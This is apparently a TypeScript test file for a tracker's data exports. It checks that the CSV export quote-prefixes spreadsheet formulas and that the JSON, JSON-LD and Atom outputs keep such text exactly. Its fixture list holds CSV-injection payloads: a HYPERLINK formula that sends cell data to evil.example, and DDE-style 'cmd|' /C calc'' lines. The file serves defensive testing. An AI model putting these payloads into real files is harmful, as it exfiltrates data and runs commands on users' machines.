// Guards researchers who open the CSV export in a spreadsheet: a cell an analyst filled with a
// formula (`=HYPERLINK(…)`, `@SUM(…)|cmd`, `+…`, `-…`, a leading tab or carriage return) must be
// written as text, with a quote in front that a reader can take off to get the exact value.
// The JSON, JSON-LD and Atom outputs are not spreadsheets: they keep such text exactly.
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { GET as csvGET } from "@/app/export/statements.csv/route";
import { GET as jsonGET } from "@/app/export/statements.json/route";
import { GET as claimsGET } from "@/app/export/claims.jsonld/route";
import { GET as atomGET } from "@/app/feeds/statements.atom/route";
import { db } from "@/lib/db/client";
import { neutraliseFormula, recoverCell } from "@/lib/export/csv";
import { bodyText, seedOpenDataFixture } from "@/lib/export/testing";

const ORIGIN = "http://tracker.test";
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "\t=1+1",
  "\r=1+1",
  "'=already quoted",
];

describe("neutraliseFormula", () => {
  it("prefixes every cell a spreadsheet would evaluate, and quotes, with one quote", () => {
    for (const value of FORMULAS) expect(neutraliseFormula(value)).toBe(`'${value}`);
    for (const value of ["plain text", "2.5", "-3.5", "-7", 42, "", "a=b", " =not first"]) expect(neutraliseFormula(value)).toBe(value);
  });

  it("is undone exactly by removing one leading quote, for any text", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme-ascii" }), fc.constantFrom("", "=", "+", "-", "@", "\t", "\r", "'"), (rest, start) => {
        const value = start + rest;
        const cell = String(neutraliseFormula(value));
        expect(recoverCell(cell)).toBe(value);
        expect(/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toBe(false);
      }),
      { seed: 12, numRuns: 300 },
    );
  });
});

describe("the exports with formulas in analysts' text", () => {
  let statementId: number;
  beforeAll(async () => {
    const fixture = await seedOpenDataFixture();
    statementId = fixture.trickyId;
    const statement = await db.statement.update({
      where: { id: statementId },
      data: { text: FORMULAS[0]!, context: FORMULAS[1]! },
      select: { speakerId: true },
    });
    await db.person.update({ where: { id: statement.speakerId }, data: { name: FORMULAS[2]! } });
  });

  it("writes them to CSV as text that reads back to the exact value", async () => {
    const response = csvGET(new Request(`${ORIGIN}/export/statements.csv`));
    const records: Record<string, string>[] = parse(await bodyText(response), { bom: true, columns: true });
    const row = records.find((r) => r.id === String(statementId))!;
    expect(row.text).toBe(`'${FORMULAS[0]}`);
    expect(row.context).toBe(`'${FORMULAS[1]}`);
    expect(row.speaker_name).toBe(`'${FORMULAS[2]}`);
    expect(recoverCell(row.text!)).toBe(FORMULAS[0]);
    for (const record of records) for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it("keeps them exact in JSON, JSON-LD and Atom", async () => {
    const json = JSON.parse(await bodyText(jsonGET(new Request(`${ORIGIN}/export/statements.json`)))) as {
      statements: { id: number; text: string; context: string }[];
    };
    const statement = json.statements.find((s) => s.id === statementId)!;
    expect(statement.text).toBe(FORMULAS[0]);
    expect(statement.context).toBe(FORMULAS[1]);
    expect(await bodyText(claimsGET(new Request(`${ORIGIN}/export/claims.jsonld`)))).not.toContain(`'${FORMULAS[0]}`);
    const atom = await (await atomGET(new Request(`${ORIGIN}/feeds/statements.atom`))).text();
    expect(atom).toContain("=HYPERLINK(&quot;https://evil.example/?x=&quot;&amp;A1,&quot;Click&quot;)");
  });
});
